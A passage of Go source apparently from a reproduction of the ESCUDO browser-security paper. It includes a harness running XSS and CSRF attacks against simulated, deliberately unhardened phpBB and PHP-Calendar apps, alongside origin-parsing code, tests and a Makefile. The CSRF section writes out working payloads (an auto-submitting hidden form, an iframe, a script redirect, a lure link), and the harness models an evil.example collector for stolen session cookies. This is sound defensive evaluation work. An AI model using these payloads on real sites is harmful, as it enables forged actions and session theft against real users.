					`<input name=day value="13"><input name=text value="CSRF-TARGET">`+
					`</form>`+
					`<script>document.getElementById("f").submit();</script>`+
					`</body></html>`, u)
			},
		},
		{
			name:  "anchor",
			desc:  "a lure link the user clicks",
			click: true,
			page: func(u string) string {
				return fmt.Sprintf(`<html><body><a id=lure href="%s">you won — click to claim</a></body></html>`, u)
			},
		},
		{
			name: "iframe",
			desc: "a hidden <iframe> loading the forged GET",
			page: func(u string) string {
				return fmt.Sprintf(`<html><body><iframe src="%s"></iframe></body></html>`, u)
			},
		},
		{
			name: "redirect",
			desc: "a script-driven top-level navigation to the forged GET",
			page: func(u string) string {
				return fmt.Sprintf(`<html><body><script>document.location = "%s";</script></body></html>`, u)
			},
		},
	}
}

// runCSRF executes one vector: serve the page, lure the victim,
// optionally click the lure.
func runCSRF(e *Env, v csrfVector, forgedURL string) error {
	e.ServeEvil(v.page(forgedURL))
	p, err := e.LureVictim()
	if err != nil {
		return err
	}
	if v.click {
		lure := p.Doc.ByID("lure")
		if lure == nil {
			return fmt.Errorf("lure anchor missing")
		}
		// A navigation to a dead-end page returns the forum's 303
		// redirect target; errors navigating the result are fine —
		// the forged request itself already happened.
		_, _ = p.ClickAnchor(lure)
	}
	return nil
}

// forumCSRF builds the five phpBB CSRF attacks. Target: the forum's
// posting endpoints; the forged topic subject is CSRF-TARGET.
func forumCSRF() []Attack {
	var out []Attack
	for _, v := range vectors() {
		v := v
		forged := "http://forum.example/quickpost?subject=CSRF-TARGET&message=spam"
		if v.name == "form" {
			forged = "http://forum.example/posting"
		}
		out = append(out, Attack{
			Name: "phpbb-csrf-" + v.name,
			Kind: KindCSRF,
			App:  "phpBB",
			Description: "Malicious site forges a posting request into the victim's " +
				"forum session using " + v.desc + ". Success: a CSRF-TARGET topic " +
				"appears under the victim's identity.",
			Run: func(e *Env) (bool, error) {
				if err := runCSRF(e, v, forged); err != nil {
					return false, err
				}
				return forumTopicWithSubject(e.Forum, "CSRF-TARGET", VictimUser), nil
			},
		})
	}
	return out
}

// calCSRF builds the five PHP-Calendar CSRF attacks. Target: event
// creation; the forged event text is CSRF-TARGET.
func calCSRF() []Attack {
	var out []Attack
	for _, v := range vectors() {
		v := v
		forged := "http://calendar.example/quickevent?day=13&text=CSRF-TARGET"
		if v.name == "form" {
			forged = "http://calendar.example/event"
		}
		out = append(out, Attack{
			Name: "phpcal-csrf-" + v.name,
			Kind: KindCSRF,
			App:  "PHP-Calendar",
			Description: "Malicious site forges an event-creation request into the " +
				"victim's calendar session using " + v.desc + ". Success: a " +
				"CSRF-TARGET event appears under the victim's identity.",
			Run: func(e *Env) (bool, error) {
				if err := runCSRF(e, v, forged); err != nil {
					return false, err
				}
				return calEventWithText(e.Cal, "CSRF-TARGET", VictimUser), nil
			},
		})
	}
	return out
}
