// Package attack reproduces the paper's §6.4 defense-effectiveness
// evaluation: four XSS attacks and five CSRF attacks against each of
// the two case-study applications (phpBB and PHP-Calendar), executed
// once in a legacy same-origin-policy browser and once in an ESCUDO
// browser. Per the paper, the applications run *unhardened* — input
// validation and secret-token CSRF checks removed — so the front-line
// defenses are out of the way and the browser protection model is
// what is under test.
//
// Each attack carries a machine-checkable success predicate (did the
// session cookie leak? was trusted DOM modified? did the forged
// request arrive with a valid session?), so the harness produces the
// paper's verdict table mechanically.
package attack

import (
	"fmt"
	"net/url"
	"strings"

	"repro/internal/apps/phpbb"
	"repro/internal/apps/phpcal"
	"repro/internal/browser"
	"repro/internal/core"
	"repro/internal/html"
	"repro/internal/nonce"
	"repro/internal/origin"
	"repro/internal/web"
)

// Kind classifies attacks.
type Kind int

// Attack kinds.
const (
	KindXSS Kind = iota + 1
	KindCSRF
)

// String names the kind.
func (k Kind) String() string {
	switch k {
	case KindXSS:
		return "XSS"
	case KindCSRF:
		return "CSRF"
	default:
		return "?"
	}
}

// Victim and attacker identities used throughout the corpus.
const (
	VictimUser   = "alice"
	VictimPass   = "alicepw"
	AttackerUser = "mallory"
	AttackerPass = "mallorypw"
)

// Env is one fresh attack scenario: both unhardened apps, a malicious
// site, and the victim's browser (already logged into both apps).
type Env struct {
	Net         *web.Network
	Forum       *phpbb.App
	Cal         *phpcal.App
	ForumOrigin origin.Origin
	CalOrigin   origin.Origin
	EvilOrigin  origin.Origin
	Victim      *browser.Browser
	// evilPage is the markup the evil site serves at /; attacks set
	// it before luring the victim there.
	evilPage string
	// cleanup tears down a wrapped transport (e.g. an HTTP gateway);
	// nil for in-memory environments.
	cleanup func()
}

// TransportWrapper puts a transport in front of an environment's
// network — e.g. httpd gateway + client over loopback — so the same
// attack corpus replays across a real socket. It returns the victim's
// transport and a teardown function (either may rely on the network
// already having all its origins registered).
type TransportWrapper func(n *web.Network) (web.Transport, func(), error)

// Close releases transport resources; in-memory environments need no
// teardown and may skip it.
func (e *Env) Close() {
	if e.cleanup != nil {
		e.cleanup()
		e.cleanup = nil
	}
}

// NewEnv builds a scenario for the given browser mode with unhardened
// applications. The victim logs into both applications first
// (establishing the ring-1 session cookies), exactly the §6.4 setting
// of "a victim user's active session with a trusted site".
func NewEnv(mode browser.Mode) (*Env, error) {
	return newEnv(mode, false, nil, nil)
}

// NewEnvHardened builds the same scenario with the applications'
// first-line defenses (input validation, CSRF tokens) re-enabled —
// the state the paper started from before removing them "to
// facilitate the attacks".
func NewEnvHardened(mode browser.Mode) (*Env, error) {
	return newEnv(mode, true, nil, nil)
}

// NewEnvCached is NewEnv with a shared decision cache plugged into the
// victim's browser, so load drivers replaying the corpus across many
// concurrent environments share one verdict memo. All environments
// sharing a cache must use the same mode.
func NewEnvCached(mode browser.Mode, cache *core.DecisionCache) (*Env, error) {
	return newEnv(mode, false, cache, nil)
}

// NewEnvOver is NewEnvCached with the victim's browser fetching
// through the wrapped transport instead of the in-memory network.
// Call Env.Close when done.
func NewEnvOver(mode browser.Mode, cache *core.DecisionCache, wrap TransportWrapper) (*Env, error) {
	return newEnv(mode, false, cache, wrap)
}

func newEnv(mode browser.Mode, hardened bool, cache *core.DecisionCache, wrap TransportWrapper) (*Env, error) {
	e := &Env{
		Net:         web.NewNetwork(),
		ForumOrigin: origin.MustParse("http://forum.example"),
		CalOrigin:   origin.MustParse("http://calendar.example"),
		EvilOrigin:  origin.MustParse("http://evil.example"),
	}
	e.Forum = phpbb.New(phpbb.Config{
		Origin: e.ForumOrigin, Hardened: hardened, Escudo: true, Nonces: nonce.NewSeqSource(1000),
	})
	e.Cal = phpcal.New(phpcal.Config{
		Origin: e.CalOrigin, Hardened: hardened, Escudo: true, Nonces: nonce.NewSeqSource(2000),
	})
	for _, app := range []interface{ AddUser(string, string) }{e.Forum, e.Cal} {
		app.AddUser(VictimUser, VictimPass)
		app.AddUser(AttackerUser, AttackerPass)
	}
	e.Net.Register(e.ForumOrigin, e.Forum)
	e.Net.Register(e.CalOrigin, e.Cal)
	e.Net.Register(e.EvilOrigin, web.HandlerFunc(func(req *web.Request) *web.Response {
		if req.Path() == "/" {
			return web.HTML(e.evilPage)
		}
		// /steal and friends: the attacker's collector endpoints.
		return web.HTML("")
	}))

	// The victim fetches through the wrapped transport when one is
	// given; verdict predicates keep reading e.Net directly — the
	// request log records server-side either way, which is exactly the
	// transport-independence the gateway must preserve.
	var transport web.Transport = e.Net
	if wrap != nil {
		t, cleanup, err := wrap(e.Net)
		if err != nil {
			return nil, fmt.Errorf("attack: wrapping transport: %w", err)
		}
		transport, e.cleanup = t, cleanup
	}

	// Attack verdicts are decided by scripts, DOM state, cookies, and
	// the request log — never by layout — so the victim browser skips
	// the render pass: every mediated path an attack can exercise
	// still runs, and the replay doesn't bill text layout to the p50.
	e.Victim = browser.New(transport, browser.Options{Mode: mode, Cache: cache, DisableRender: true})
	if err := e.login(e.ForumOrigin, "loginform"); err != nil {
		e.Close()
		return nil, fmt.Errorf("attack: forum login: %w", err)
	}
	if err := e.login(e.CalOrigin, "loginform"); err != nil {
		e.Close()
		return nil, fmt.Errorf("attack: calendar login: %w", err)
	}
	e.Net.ResetLog()
	return e, nil
}

// login drives the victim through an app's login form.
func (e *Env) login(o origin.Origin, formID string) error {
	p, err := e.Victim.Navigate(o.URL("/"))
	if err != nil {
		return err
	}
	form := p.Doc.ByID(formID)
	if form == nil {
		return fmt.Errorf("no %s at %s", formID, o)
	}
	_, err = p.SubmitForm(form, url.Values{
		"username": {VictimUser}, "password": {VictimPass},
	})
	return err
}

// ServeEvil installs the malicious page at http://evil.example/.
func (e *Env) ServeEvil(markup string) { e.evilPage = markup }

// LureVictim navigates the victim's browser to the evil page,
// simulating the user following a malicious link from mail or chat.
func (e *Env) LureVictim() (*browser.Page, error) {
	return e.Victim.Navigate(e.EvilOrigin.URL("/"))
}

// EvilReceived returns the query parameters of requests the attacker's
// collector received at the given path.
func (e *Env) EvilReceived(path string) []url.Values {
	var out []url.Values
	for _, entry := range e.Net.FindRequests(e.EvilOrigin, func(le web.LogEntry) bool {
		return le.Path == path
	}) {
		u, err := url.Parse(entry.URL)
		if err != nil {
			continue
		}
		out = append(out, u.Query())
	}
	return out
}

// Attack is one member of the §6.4 corpus.
type Attack struct {
	// Name is a stable identifier, e.g. "phpbb-xss-cookie-theft".
	Name string
	// Kind is XSS or CSRF.
	Kind Kind
	// App is "phpBB" or "PHP-Calendar".
	App string
	// Description says what the attack does and what success means.
	Description string
	// Run sets up, executes, and judges the attack in a fresh Env.
	// It returns whether the attack SUCCEEDED (i.e. the protection
	// failed).
	Run func(e *Env) (bool, error)
}

// Result is one attack × mode verdict.
type Result struct {
	Attack Attack
	Mode   browser.Mode
	// Succeeded reports whether the attack achieved its goal.
	Succeeded bool
	// Err reports harness-level failures (not attack denials).
	Err error
}

// Neutralized is the paper's term: the protection held.
func (r Result) Neutralized() bool { return !r.Succeeded }

// RunAll executes every attack in the corpus under the given mode,
// each in a fresh environment.
func RunAll(mode browser.Mode) []Result {
	var out []Result
	for _, atk := range Corpus() {
		out = append(out, RunOne(atk, mode))
	}
	return out
}

// RunOne executes a single attack under the given mode.
func RunOne(atk Attack, mode browser.Mode) Result {
	env, err := NewEnv(mode)
	if err != nil {
		return Result{Attack: atk, Mode: mode, Err: err}
	}
	ok, err := atk.Run(env)
	return Result{Attack: atk, Mode: mode, Succeeded: ok, Err: err}
}

// RunOneCached is RunOne against an environment sharing the given
// decision cache — the engine's load driver uses it to replay the
// corpus concurrently through one verdict memo.
func RunOneCached(atk Attack, mode browser.Mode, cache *core.DecisionCache) Result {
	env, err := NewEnvCached(mode, cache)
	if err != nil {
		return Result{Attack: atk, Mode: mode, Err: err}
	}
	ok, err := atk.Run(env)
	return Result{Attack: atk, Mode: mode, Succeeded: ok, Err: err}
}

// RunOneOver is RunOneCached with the victim fetching through the
// wrapped transport — how the §6.4 corpus replays over real sockets
// against an HTTP gateway. The verdict contract is unchanged: the
// protection model is transport-independent, so an attack neutralized
// in memory must be neutralized over the wire.
func RunOneOver(atk Attack, mode browser.Mode, cache *core.DecisionCache, wrap TransportWrapper) Result {
	env, err := NewEnvOver(mode, cache, wrap)
	if err != nil {
		return Result{Attack: atk, Mode: mode, Err: err}
	}
	defer env.Close()
	ok, err := atk.Run(env)
	return Result{Attack: atk, Mode: mode, Succeeded: ok, Err: err}
}

// Corpus returns the full §6.4 corpus: 4 XSS + 5 CSRF per application.
func Corpus() []Attack {
	var out []Attack
	out = append(out, forumXSS()...)
	out = append(out, calXSS()...)
	out = append(out, forumCSRF()...)
	out = append(out, calCSRF()...)
	return out
}

// hasSessionValue reports whether any collected exfiltration query
// contains the named cookie.
func hasSessionValue(queries []url.Values, cookieName string) bool {
	for _, q := range queries {
		for _, vs := range q {
			for _, v := range vs {
				if strings.Contains(v, cookieName+"=") {
					return true
				}
			}
		}
	}
	return false
}

// forumTopicWithSubject reports whether the forum has a topic with the
// given subject authored by the victim — the forged-action success
// signal.
func forumTopicWithSubject(f *phpbb.App, subject, author string) bool {
	for _, t := range f.Topics() {
		if t.Subject == subject && (author == "" || t.Author == author) {
			return true
		}
	}
	return false
}

// calEventWithText reports whether the calendar has an event with the
// given text by the author.
func calEventWithText(c *phpcal.App, text, author string) bool {
	for _, ev := range c.Events() {
		if ev.Text == text && (author == "" || ev.Author == author) {
			return true
		}
	}
	return false
}

// innerTextByID reads an element's text without access checks (the
// omniscient judge's view).
func innerTextByID(p *browser.Page, id string) string {
	n := p.Doc.ByID(id)
	if n == nil {
		return ""
	}
	return html.InnerText(n)
}
