package origin

import (
	"fmt"
	"sync"
	"testing"
)

func TestInternStableIDs(t *testing.T) {
	a := MustParse("http://forum.example")
	b := MustParse("http://calendar.example:8080")

	idA1, idA2 := Intern(a), Intern(a)
	if idA1 != idA2 {
		t.Fatalf("Intern not stable: %d vs %d", idA1, idA2)
	}
	if idB := Intern(b); idB == idA1 {
		t.Fatalf("distinct origins share ID %d", idB)
	}
	if got := idA1.Origin(); got != a {
		t.Fatalf("round trip: got %v, want %v", got, a)
	}
	if got := idA1.String(); got != a.String() {
		t.Fatalf("cached string: got %q, want %q", got, a.String())
	}
}

func TestInternNullOrigin(t *testing.T) {
	if id := Intern(Origin{}); id != NullID {
		t.Fatalf("null origin interned to %d, want %d", id, NullID)
	}
	if got := NullID.String(); got != "null" {
		t.Fatalf("NullID.String() = %q", got)
	}
	if got := NullID.Origin(); !got.IsNull() {
		t.Fatalf("NullID.Origin() = %v, want null", got)
	}
}

func TestInternNeverIssuedID(t *testing.T) {
	if got := ID(1 << 30).Origin(); !got.IsNull() {
		t.Fatalf("bogus ID resolved to %v", got)
	}
	if got := ID(1 << 30).String(); got != "null" {
		t.Fatalf("bogus ID string = %q", got)
	}
}

// TestInternConcurrent hammers the interner from parallel goroutines
// over an overlapping origin set; the race detector checks the
// lock-free read path and every origin must keep one stable ID.
func TestInternConcurrent(t *testing.T) {
	const goroutines = 16
	const origins = 32
	ids := make([][]ID, goroutines)
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			ids[g] = make([]ID, origins)
			for i := 0; i < origins; i++ {
				o := MustParse(fmt.Sprintf("http://host%d.example", i))
				ids[g][i] = Intern(o)
				if s := ids[g][i].String(); s == "null" {
					t.Errorf("interned origin %v serialized as null", o)
				}
			}
		}(g)
	}
	wg.Wait()
	for g := 1; g < goroutines; g++ {
		for i := 0; i < origins; i++ {
			if ids[g][i] != ids[0][i] {
				t.Fatalf("goroutine %d saw ID %d for origin %d, goroutine 0 saw %d",
					g, ids[g][i], i, ids[0][i])
			}
		}
	}
}

func BenchmarkInternHit(b *testing.B) {
	o := MustParse("http://bench.example")
	Intern(o)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = Intern(o)
	}
}

func BenchmarkOriginString(b *testing.B) {
	o := MustParse("http://bench.example:8080")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		_ = o.String()
	}
}
