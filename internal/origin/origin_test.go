package origin

import (
	"errors"
	"strings"
	"testing"
	"testing/quick"
)

func TestParse(t *testing.T) {
	tests := []struct {
		name string
		url  string
		want Origin
	}{
		{"http default port", "http://www.amazon.com/index.php", Origin{"http", "www.amazon.com", 80}},
		{"https default port", "https://www.gmail.com", Origin{"https", "www.gmail.com", 443}},
		{"explicit port", "http://forum.example:8080/a/b?q=1", Origin{"http", "forum.example", 8080}},
		{"uppercase normalized", "HTTP://WWW.Amazon.COM/x", Origin{"http", "www.amazon.com", 80}},
		{"path and query ignored", "http://a.example/search.php?q=2#frag", Origin{"http", "a.example", 80}},
		{"ws scheme", "ws://chat.example/socket", Origin{"ws", "chat.example", 80}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Parse(tt.url)
			if err != nil {
				t.Fatalf("Parse(%q) error: %v", tt.url, err)
			}
			if got != tt.want {
				t.Errorf("Parse(%q) = %v, want %v", tt.url, got, tt.want)
			}
		})
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		"",
		"/relative/path",
		"not a url at all ://",
		"http://",
		"mailto:user@example.com",
		"http://host:99999/",
		"http://host:0/",
		"http://host:-1/",
	}
	for _, u := range bad {
		if o, err := Parse(u); err == nil {
			t.Errorf("Parse(%q) = %v, want error", u, o)
		} else if !errors.Is(err, ErrInvalidURL) && !strings.Contains(err.Error(), "origin:") {
			t.Errorf("Parse(%q) error %v not wrapped as origin error", u, err)
		}
	}
}

func TestSameOriginPaperExamples(t *testing.T) {
	// The paper's §2.3 examples of same and differing origins.
	amazonIndex := MustParse("http://www.amazon.com/index.php")
	amazonSearch := MustParse("http://www.amazon.com/search.php")
	gmail := MustParse("http://www.gmail.com")
	gmailTLS := MustParse("https://www.gmail.com")

	if !amazonIndex.SameOrigin(amazonSearch) {
		t.Error("two pages on www.amazon.com must be same-origin")
	}
	if gmail.SameOrigin(amazonIndex) {
		t.Error("gmail and amazon must not be same-origin (different domain)")
	}
	if gmail.SameOrigin(gmailTLS) {
		t.Error("http and https gmail must not be same-origin (different protocol)")
	}
}

func TestSameOriginPorts(t *testing.T) {
	a := MustParse("http://site.example/")
	b := MustParse("http://site.example:80/")
	c := MustParse("http://site.example:8080/")
	if !a.SameOrigin(b) {
		t.Error("implicit and explicit default port must be same-origin")
	}
	if a.SameOrigin(c) {
		t.Error("different ports must not be same-origin")
	}
}

func TestNullOrigin(t *testing.T) {
	var null Origin
	if !null.IsNull() {
		t.Fatal("zero origin must be null")
	}
	if null.SameOrigin(null) {
		t.Error("null origin must not be same-origin with itself")
	}
	if null.SameOrigin(MustParse("http://a.example")) {
		t.Error("null origin must not be same-origin with a real origin")
	}
	if got := null.String(); got != "null" {
		t.Errorf("null.String() = %q, want %q", got, "null")
	}
}

func TestString(t *testing.T) {
	tests := []struct {
		o    Origin
		want string
	}{
		{Origin{"http", "a.example", 80}, "http://a.example"},
		{Origin{"https", "a.example", 443}, "https://a.example"},
		{Origin{"http", "a.example", 8080}, "http://a.example:8080"},
	}
	for _, tt := range tests {
		if got := tt.o.String(); got != tt.want {
			t.Errorf("%v.String() = %q, want %q", tt.o, got, tt.want)
		}
	}
}

func TestStringRoundTrip(t *testing.T) {
	// Serializing then reparsing an origin yields the same origin.
	f := func(hostSeed uint8, port uint16, https bool) bool {
		host := "h" + strings.Repeat("a", int(hostSeed%5)+1) + ".example"
		scheme := "http"
		if https {
			scheme = "https"
		}
		p := int(port)
		if p == 0 {
			p = 80
		}
		o := Origin{Scheme: scheme, Host: host, Port: p}
		back, err := Parse(o.String())
		return err == nil && back == o
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestURL(t *testing.T) {
	o := MustParse("http://forum.example:8080/")
	if got, want := o.URL("/viewtopic.php?t=1"), "http://forum.example:8080/viewtopic.php?t=1"; got != want {
		t.Errorf("URL = %q, want %q", got, want)
	}
	if got, want := o.URL("login"), "http://forum.example:8080/login"; got != want {
		t.Errorf("URL without leading slash = %q, want %q", got, want)
	}
}

func TestResolve(t *testing.T) {
	tests := []struct {
		base, ref, want string
	}{
		{"http://a.example/dir/page.html", "img.png", "http://a.example/dir/img.png"},
		{"http://a.example/dir/page.html", "/top.png", "http://a.example/top.png"},
		{"http://a.example/dir/page.html", "http://b.example/x", "http://b.example/x"},
		{"http://a.example/dir/page.html", "?q=1", "http://a.example/dir/page.html?q=1"},
		{"http://a.example/dir/", " spaced.html ", "http://a.example/dir/spaced.html"},
	}
	for _, tt := range tests {
		got, err := Resolve(tt.base, tt.ref)
		if err != nil {
			t.Fatalf("Resolve(%q, %q) error: %v", tt.base, tt.ref, err)
		}
		if got != tt.want {
			t.Errorf("Resolve(%q, %q) = %q, want %q", tt.base, tt.ref, got, tt.want)
		}
	}
}

func TestMustParsePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustParse of invalid URL must panic")
		}
	}()
	MustParse("::not-a-url::")
}
