// Package origin implements web origins as defined by the same-origin
// policy: the unique combination of scheme, host, and port from a URL.
//
// ESCUDO's Origin Rule (paper §4.2, rule 1) compares the origin of a
// principal with the origin of an object; this package supplies the
// origin type and the URL handling used by the rest of the system.
package origin

import (
	"errors"
	"fmt"
	"net/url"
	"strconv"
	"strings"
)

// Origin is the ⟨scheme, host, port⟩ triple identifying a web
// application under the same-origin policy. The zero value is the
// "null" origin, which is never equal to any origin including itself
// when compared with SameOrigin (mirroring opaque origins in real
// browsers).
type Origin struct {
	// Scheme is the lowercase URL scheme, e.g. "http" or "https".
	Scheme string
	// Host is the lowercase hostname with no port, e.g. "forum.example".
	Host string
	// Port is the effective TCP port. Parse fills in the scheme
	// default (80 for http, 443 for https) when the URL omits it.
	Port int
}

// ErrInvalidURL reports a URL from which no origin can be derived.
var ErrInvalidURL = errors.New("origin: invalid URL")

// defaultPorts maps schemes to their default ports.
var defaultPorts = map[string]int{
	"http":  80,
	"https": 443,
	"ws":    80,
	"wss":   443,
	"ftp":   21,
}

// Parse derives the origin of an absolute URL. It fails for relative
// URLs and URLs without a host.
func Parse(rawURL string) (Origin, error) {
	u, err := url.Parse(rawURL)
	if err != nil {
		return Origin{}, fmt.Errorf("origin: parsing %q: %w", rawURL, err)
	}
	return FromURL(u)
}

// MustParse is Parse for statically known URLs; it panics on error.
// It is intended for tests and example programs.
func MustParse(rawURL string) Origin {
	o, err := Parse(rawURL)
	if err != nil {
		panic(err)
	}
	return o
}

// FromURL derives the origin of an already parsed URL.
func FromURL(u *url.URL) (Origin, error) {
	if u == nil || !u.IsAbs() || u.Hostname() == "" {
		return Origin{}, fmt.Errorf("%w: %q", ErrInvalidURL, u)
	}
	scheme := strings.ToLower(u.Scheme)
	port := defaultPorts[scheme]
	if p := u.Port(); p != "" {
		var n int
		if _, err := fmt.Sscanf(p, "%d", &n); err != nil || n <= 0 || n > 65535 {
			return Origin{}, fmt.Errorf("%w: bad port %q", ErrInvalidURL, p)
		}
		port = n
	}
	if port == 0 {
		return Origin{}, fmt.Errorf("%w: scheme %q has no default port", ErrInvalidURL, scheme)
	}
	return Origin{Scheme: scheme, Host: strings.ToLower(u.Hostname()), Port: port}, nil
}

// IsNull reports whether o is the null (zero) origin.
func (o Origin) IsNull() bool {
	return o.Scheme == "" && o.Host == "" && o.Port == 0
}

// SameOrigin implements the same-origin test. Null origins are never
// same-origin with anything, themselves included.
func (o Origin) SameOrigin(other Origin) bool {
	if o.IsNull() || other.IsNull() {
		return false
	}
	return o == other
}

// String renders the origin in serialized form, e.g.
// "http://forum.example:8080". Default ports are elided, matching the
// common browser serialization. It avoids fmt on the hot path; callers
// that serialize the same origin repeatedly should go through Intern,
// which caches the result.
func (o Origin) String() string {
	if o.IsNull() {
		return "null"
	}
	var b strings.Builder
	b.Grow(len(o.Scheme) + len(o.Host) + 9)
	b.WriteString(o.Scheme)
	b.WriteString("://")
	b.WriteString(o.Host)
	if defaultPorts[o.Scheme] != o.Port {
		b.WriteByte(':')
		b.WriteString(strconv.Itoa(o.Port))
	}
	return b.String()
}

// URL builds an absolute URL within the origin from an absolute path
// (and optional query), e.g. o.URL("/login?next=%2F").
func (o Origin) URL(pathAndQuery string) string {
	if !strings.HasPrefix(pathAndQuery, "/") {
		pathAndQuery = "/" + pathAndQuery
	}
	return o.String() + pathAndQuery
}

// Resolve resolves a possibly relative reference against a base URL,
// returning the absolute URL string. It is used when HTML attributes
// (href, src, form action) contain relative references.
func Resolve(baseURL, ref string) (string, error) {
	b, err := url.Parse(baseURL)
	if err != nil {
		return "", fmt.Errorf("origin: parsing base %q: %w", baseURL, err)
	}
	r, err := url.Parse(strings.TrimSpace(ref))
	if err != nil {
		return "", fmt.Errorf("origin: parsing ref %q: %w", ref, err)
	}
	return b.ResolveReference(r).String(), nil
}
