package origin

import (
	"sync"
	"sync/atomic"
)

// ID is a compact interned handle for an Origin. Two origins intern to
// the same ID exactly when they are equal, so IDs can be compared (and
// used as map or cache-key components) without touching the strings
// inside the Origin itself. ID 0 is reserved for the null origin.
//
// IDs are process-global and never recycled; the intern table only
// grows. A deployment talks to a bounded set of origins, so the table
// stays small — it is not suitable for interning attacker-controlled
// unbounded origin streams.
type ID uint32

// NullID is the ID of the null (zero) origin.
const NullID ID = 0

// internEntry is one interned origin with its cached serialization.
type internEntry struct {
	o Origin
	s string
}

var (
	internMu  sync.Mutex   // serializes writers
	internIDs sync.Map     // Origin → ID; lock-free reads
	internTab atomic.Value // []internEntry, index = int(ID)-1; copy-on-write
)

// Intern returns the canonical ID for o, assigning a fresh one on
// first sight. The fast path (already-interned origin) is a single
// lock-free map read, so it is safe to call on every authorization
// decision.
func Intern(o Origin) ID {
	if o.IsNull() {
		return NullID
	}
	if v, ok := internIDs.Load(o); ok {
		return v.(ID)
	}
	internMu.Lock()
	defer internMu.Unlock()
	if v, ok := internIDs.Load(o); ok {
		return v.(ID)
	}
	var tab []internEntry
	if v := internTab.Load(); v != nil {
		tab = v.([]internEntry)
	}
	next := make([]internEntry, len(tab)+1)
	copy(next, tab)
	next[len(tab)] = internEntry{o: o, s: o.String()}
	id := ID(len(next))
	internTab.Store(next)
	internIDs.Store(o, id)
	return id
}

// lookup returns the intern entry for id, or nil for NullID and
// never-issued IDs.
func (id ID) lookup() *internEntry {
	if id == NullID {
		return nil
	}
	v := internTab.Load()
	if v == nil {
		return nil
	}
	tab := v.([]internEntry)
	i := int(id) - 1
	if i < 0 || i >= len(tab) {
		return nil
	}
	return &tab[i]
}

// Origin returns the origin the ID stands for (the null origin for
// NullID or an ID that was never issued).
func (id ID) Origin() Origin {
	if e := id.lookup(); e != nil {
		return e.o
	}
	return Origin{}
}

// String returns the origin's serialized form, computed once at intern
// time — repeated calls do no formatting work.
func (id ID) String() string {
	if e := id.lookup(); e != nil {
		return e.s
	}
	return "null"
}
