//go:build !race

// Package raceflag reports whether the race detector is compiled in.
// The AllocsPerRun gates skip under it: instrumentation adds its own
// allocations, so the counts they pin are only meaningful without it.
package raceflag

// Enabled is true when the binary was built with -race.
const Enabled = false
