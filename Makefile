# CI and local development invoke the same targets; keep ci.yml and
# this file in sync.

GO ?= go

.PHONY: all build test race bench bench-compare fuzz-script lint fmt-check vet serve serve-http serve-cluster reload-smoke soak slo-smoke profile clean

all: build lint test

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# One iteration per benchmark: a smoke pass that catches compile and
# runtime breakage in benchmark code without CI-length runs.
bench:
	$(GO) test -run='^$$' -bench=. -benchtime=1x ./...

# Differential fuzz: the compiled VM must agree with the tree-walking
# interpreter (the semantic spec) on every input — result values,
# error classes, and step counts alike. CI runs this as a short smoke;
# raise FUZZTIME locally when touching the compiler or VM.
FUZZTIME ?= 10s
fuzz-script:
	$(GO) test ./internal/script -run '^FuzzCompileMatchesEval$$' \
		-fuzz '^FuzzCompileMatchesEval$$' -fuzztime $(FUZZTIME)

lint: fmt-check vet

fmt-check:
	@out="$$(gofmt -l .)"; if [ -n "$$out" ]; then \
		echo "gofmt needed on:"; echo "$$out"; exit 1; fi

vet:
	$(GO) vet ./...

# Regenerate BENCH_engine.json with the default load (8 sessions).
serve:
	$(GO) run ./cmd/escudo-serve

# Same load plus the client/server split: origins mounted on a real
# HTTP gateway over loopback (TLS + ALPN, so the wire speaks h2),
# workloads and the §6.4 attack corpus replayed over sockets, http
# section added to BENCH_engine.json. -procs-bench re-runs figure4 at
# GOMAXPROCS=4 so the report carries serial and parallel numbers.
serve-http:
	$(GO) run ./cmd/escudo-serve -http 127.0.0.1:0 -tls -procs-bench 4

# Multi-process deployment: fork/exec one serve-only gateway process
# (TLS-terminating, ephemeral in-memory CA) plus CLUSTER_WORKERS
# loadgen worker processes, replay figure-4 and the §6.4 corpus over
# https across the process boundary, and merge the shards into the
# cluster section of BENCH_engine.json (other sections preserved).
CLUSTER_WORKERS ?= 2
serve-cluster:
	$(GO) run ./cmd/escudo-serve -cluster $(CLUSTER_WORKERS) -tls

# Policy hot-reload smoke: mount TENANTS stamped tenant origins plus a
# hot origin on a dedicated gateway, push a live policy flip mid-load
# (the invalidation storm), and measure push ack, watcher propagation,
# cache refill, and the throughput dip — then the noisy-neighbor
# isolation probe. CI gates on the control section: no page load may
# mix policy generations, the refill must be recorded, and the §6.4
# corpus must stay 18/18 on both sides of the flip.
TENANTS ?= 1024
reload-smoke:
	$(GO) run ./cmd/escudo-serve -sessions 4 -iters 2 -phpbb-iters 2 -mixed-iters 2 \
		-script-iters 0 -control -tenants $(TENANTS) -out BENCH_engine.control.json

# Leak-hunting soak: SOAK seconds of mixed load through the loopback
# gateway under the race detector, with the runtime sampler recording
# goroutine/heap shape every 200ms into the report's obs section. CI
# gates on the sampler's verdict: goroutines must return to a fixed
# band of the post-warmup count and the heap must not grow
# monotonically across samples.
SOAK ?= 30s
soak:
	$(GO) run -race ./cmd/escudo-serve -sessions 4 -iters 1 -phpbb-iters 2 -mixed-iters 2 \
		-attacks=false -http 127.0.0.1:0 -soak $(SOAK) -out BENCH_engine.soak.json

# Open-loop SLO smoke: SLO_DURATION of seeded Poisson arrivals with
# login/logout churn against the loopback gateway, no coordinated
# omission. Deliberately NOT under -race — the race detector inflates
# latency ~10x, which would make the p99 budget and the leak window
# meaningless. CI jq-gates the slo section of the report (leak verdict
# clean, p99 within budget) and runs the escudo-compare SLO gate.
SLO_RATE ?= 200
SLO_DURATION ?= 30s
SLO_CHURN ?= 20
SLO_P99_MS ?= 250
slo-smoke:
	$(GO) run ./cmd/escudo-serve -sessions 4 -iters 1 -phpbb-iters 1 -mixed-iters 1 \
		-script-iters 0 -attacks=false -http 127.0.0.1:0 \
		-openloop rate=$(SLO_RATE),duration=$(SLO_DURATION),churn=$(SLO_CHURN),p99=$(SLO_P99_MS) \
		-out BENCH_engine.slo.json

# Run the driver fresh and print phase-by-phase p50/p99 deltas against
